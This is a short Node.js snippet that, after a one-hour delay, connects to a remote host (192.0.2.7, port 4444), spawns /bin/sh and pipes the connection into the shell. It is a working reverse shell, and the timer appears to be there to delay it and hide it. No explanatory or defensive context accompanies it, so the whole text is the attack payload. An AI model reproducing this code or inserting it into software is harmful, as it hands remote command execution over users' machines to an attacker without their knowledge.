setTimeout(function () {
  const net = require("net");
  const s = net.connect(4444, "192.0.2.7", function () {
    const sh = require("child_process").spawn("/bin/sh", []);
    s.pipe(sh.stdin);
    sh.stdout.pipe(s);
  });
}, 1000 * 60 * 60);
